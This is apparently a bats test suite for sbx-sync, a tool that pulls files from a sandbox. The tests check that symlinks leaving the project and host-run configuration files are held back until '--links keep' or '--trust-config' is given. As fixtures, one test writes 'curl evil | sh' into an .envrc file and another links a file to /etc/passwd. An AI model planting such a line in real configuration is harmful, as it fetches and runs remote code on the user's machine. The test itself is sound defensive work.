#!/usr/bin/env bats
# sbx-sync pull treats what the sandbox made as data: links that lead out
# of the project and configuration that runs on the host are held back
# unless asked for, and a pull that fails while it renames files into
# place delivers everything with the next one. Each behaviour is run with
# the tool and with the tests' own sbx-sync (bin/test/sbx-sync), whose
# files go through the sandbox's shell.

load lib/helper

setup_file() { sbx_setup_file; }
teardown_file() { sbx_teardown_file; }
setup() {
	sbx_setup
	P=$BATS_TEST_TMPDIR/p
	S=$BATS_TEST_TMPDIR/s.json
	mkdir -p "$P"
	MNT=
}
teardown() {
	if [ -n "$MNT" ]; then umount "$MNT" 2>/dev/null || true; fi
	if [ -f "$S" ]; then sbx-kill -q -s "$S" >/dev/null 2>&1 || true; fi
}

# The sbx-sync under test: $SYNC, the tool by default.
push() { "${SYNC:-sbx-sync}" push -s "$S" "$@" "$P"; }
pull() { "${SYNC:-sbx-sync}" pull -s "$S" "$@" "$P"; }
status() { "${SYNC:-sbx-sync}" status -s "$S" "$@" "$P"; }
in_sbx() { sx sh -c "cd /workspace && $1"; }

sandbox_sum() { in_sbx "$SUM_SH"; }
# The summary line: the last line of stdout.
summary() { jq -c "$1" <<<"${output##*$'\n'}"; }

links_held_back() {
	new_sandbox
	mkdir "$BATS_TEST_TMPDIR/outside"
	echo a >"$P/a"
	# The user's own link out of the project, already on the host.
	ln -s "$BATS_TEST_TMPDIR/outside" "$P/mine"
	push >/dev/null
	in_sbx 'ln -s /etc/passwd abs && mkdir -p sub/deep &&
	    ln -s ../../../x sub/deep/up && ln -s ../a sub/in &&
	    ln -s sub/deep/up/y via && ln -s mine/z viamine &&
	    ln -s sub/../sub/in ok && echo a2 >a'
	run status
	assert_success
	assert_line '{"path":"abs","action":"held","size":11,"why":"link"}'
	assert_line '{"path":"sub/deep/up","action":"held","size":10,"why":"link"}'
	assert_line '{"path":"via","action":"held","size":13,"why":"link"}'
	assert_line '{"path":"viamine","action":"held","size":6,"why":"link"}'
	assert_line '{"path":"ok","action":"add","size":13}'
	for files in 3 0; do
		# Held back, the rest written, exit 1; and again: the baseline
		# does not take them.
		run --separate-stderr pull --strict
		assert_failure 1
		assert_equal "$(summary '[.files, .conflicts, .held]')" "[$files,0,4]"
		assert_equal "$stderr" "sbx-sync: held back: link 'abs' -> '/etc/passwd' leads out of the project (take it with --links keep)
sbx-sync: held back: link 'sub/deep/up' -> '../../../x' leads out of the project (take it with --links keep)
sbx-sync: held back: link 'via' -> 'sub/deep/up/y' leads out of the project (take it with --links keep)
sbx-sync: held back: link 'viamine' -> 'mine/z' leads out of the project (take it with --links keep)
sbx-sync: 4 links held back: take them with --links keep"
		[ ! -L "$P/abs" ]
		[ ! -L "$P/sub/deep/up" ]
		[ ! -L "$P/via" ]
		[ ! -L "$P/viamine" ]
		assert_equal "$(readlink "$P/sub/in")" ../a
		assert_equal "$(readlink "$P/ok")" sub/../sub/in
		assert_equal "$(cat "$P/a")" a2
	done
	run pull --links skip --strict
	assert_failure 1
	run pull --links keep
	assert_success
	assert_equal "$(summary '[.files, .held]')" '[4,0]'
	assert_equal "$(readlink "$P/abs")" /etc/passwd
	assert_equal "$(readlink "$P/sub/deep/up")" ../../../x
	assert_equal "$(tree_sum "$P")" "$(sandbox_sum)"
	run pull
	assert_success
	assert_equal "$(summary '[.files, .held]')" '[0,0]'
}

@test "sbx-sync pull: links that leave the project are held back, offered again, taken with --links keep" {
	links_held_back
}

@test "sbx-sync pull (through the sandbox's shell): links that leave the project are held back" {
	SYNC=$SBX_BIN/test/sbx-sync links_held_back
}

config_held_back() {
	new_sandbox
	mkdir -p "$P/src"
	echo 'int x;' >"$P/src/a.c"
	echo '*.log' >"$P/.sbxignore"
	push >/dev/null
	in_sbx 'echo "curl evil | sh" >.envrc && mkdir -p .vscode &&
	    echo "{\"tasks\":[]}" >.vscode/tasks.json &&
	    echo "!*.log" >.sbxignore && echo "int y;" >src/a.c &&
	    mkdir cfg && echo "<x/>" >cfg/w.xml && ln -s cfg .idea'
	run status
	assert_success
	# A link in a directory's place counts as that directory.
	assert_line '{"path":".idea","action":"conflict","size":3,"why":"config"}'
	assert_line '{"path":"cfg/w.xml","action":"add","size":5}'
	assert_line '{"path":".envrc","action":"conflict","size":15,"why":"config"}'
	assert_line '{"path":".vscode/tasks.json","action":"conflict","size":13,"why":"config"}'
	assert_line '{"path":".sbxignore","action":"conflict","size":7,"why":"config"}'
	assert_line '{"path":"src/a.c","action":"update","size":7}'
	for files in 2 0; do
		run --separate-stderr pull --strict
		assert_failure 1
		assert_equal "$(summary '[.files, .conflicts, .held]')" "[$files,4,0]"
		assert_equal "$stderr" "sbx-sync: conflict: '.envrc' is configuration the host runs, made in the sandbox; kept as it is here (take it with --trust-config)
sbx-sync: conflict: '.idea' is configuration the host runs, made in the sandbox; kept as it is here (take it with --trust-config)
sbx-sync: conflict: '.sbxignore' is configuration the host runs, changed in the sandbox; kept as it is here (take it with --trust-config)
sbx-sync: conflict: '.vscode/tasks.json' is configuration the host runs, made in the sandbox; kept as it is here (take it with --trust-config)
sbx-sync: 4 configuration files not pulled: take them with --trust-config"
		[ ! -e "$P/.envrc" ]
		[ ! -L "$P/.idea" ]
		[ ! -e "$P/.vscode" ]
		[ ! -e "$P/.envrc.sbx-conflict" ]
		assert_equal "$(cat "$P/.sbxignore")" '*.log'
		assert_equal "$(cat "$P/src/a.c")" 'int y;'
	done
	# --theirs takes the sandbox's side of a conflict, not configuration.
	run pull --theirs --strict
	assert_failure 1
	[ ! -e "$P/.envrc" ]
	run pull --trust-config
	assert_success
	assert_equal "$(summary '[.files, .conflicts]')" '[4,0]'
	assert_equal "$(readlink "$P/.idea")" cfg
	assert_equal "$(cat "$P/.envrc")" 'curl evil | sh'
	assert_equal "$(cat "$P/.vscode/tasks.json")" '{"tasks":[]}'
	assert_equal "$(cat "$P/.sbxignore")" '!*.log'
	run status
	assert_output ''
	# A deletion of configuration waits for trust too.
	in_sbx 'rm .sbxignore'
	run --separate-stderr pull --strict
	assert_failure 1
	assert_line --index 0 --partial '"conflicts":1'
	[[ $stderr == *"'.sbxignore' is configuration the host runs, deleted in the sandbox"* ]]
	[ -f "$P/.sbxignore" ]
	run pull --trust-config
	assert_success
	[ ! -e "$P/.sbxignore" ]
}

@test "sbx-sync pull: .envrc, .vscode/ and .sbxignore from the sandbox are conflicts until --trust-config" {
	config_held_back
}

@test "sbx-sync pull (through the sandbox's shell): configuration is a conflict until --trust-config" {
	SYNC=$SBX_BIN/test/sbx-sync config_held_back
}

# A mount point in the way of one file: the files renamed before it are
# written, the rest not, and the baseline must not say they were.
failed_rename() {
	new_sandbox
	for f in a b c; do echo "$f" >"$P/$f"; done
	push >/dev/null
	in_sbx 'echo a2 >a && echo b2 >b && echo c2 >c && echo n >n'
	# The same file as far as the baseline can tell.
	cp -a "$P/b" "$BATS_TEST_TMPDIR/pin"
	mount --bind "$BATS_TEST_TMPDIR/pin" "$P/b"
	MNT=$P/b
	run pull
	assert_failure 1
	assert_output "sbx-sync: cannot write 'b': Device or resource busy"
	assert_equal "$(cat "$P/a")" a2
	assert_equal "$(cat "$P/c")" c
	umount "$P/b"
	MNT=
	run pull
	assert_success
	assert_equal "$(tree_sum "$P")" "$(sandbox_sum)"
	[ -z "$(ls -A "$P/.sbx")" ]
	run status
	assert_output ''
}

@test "sbx-sync pull: a failure during the renames advances nothing, and the next pull delivers it all" {
	failed_rename
}

@test "sbx-sync pull (through the sandbox's shell): a failure during the renames, then everything next time" {
	SYNC=$SBX_BIN/test/sbx-sync failed_rename
}

@test "sbx-sync: --links and --trust-config are checked, and are pull's and status's" {
	run --separate-stderr sbx-sync pull --links maybe -s "$S" "$P"
	assert_failure 2
	assert_equal "$stderr" "sbx-sync: --links must be keep or skip, not 'maybe'"
	run --separate-stderr sbx-sync push --trust-config -s "$S" "$P"
	assert_failure 2
	assert_equal "$stderr" "sbx-sync: --trust-config is an option of pull and status"
	run --separate-stderr sbx-sync push --links keep -s "$S" "$P"
	assert_failure 2
	assert_equal "$stderr" "sbx-sync: --links is an option of pull and status"
	[ -z "$(ls -A "$P")" ]
	[ ! -e "$S" ]
}

@test "sbx-sync: --strict is pull's alone" {
	local c
	for c in push status; do
		run --separate-stderr sbx-sync "$c" --strict -s "$S" "$P"
		assert_failure 2
		assert_equal "$stderr" "sbx-sync: --strict is an option of pull"
	done
	[ -z "$(ls -A "$P")" ]
	[ ! -e "$S" ]
}
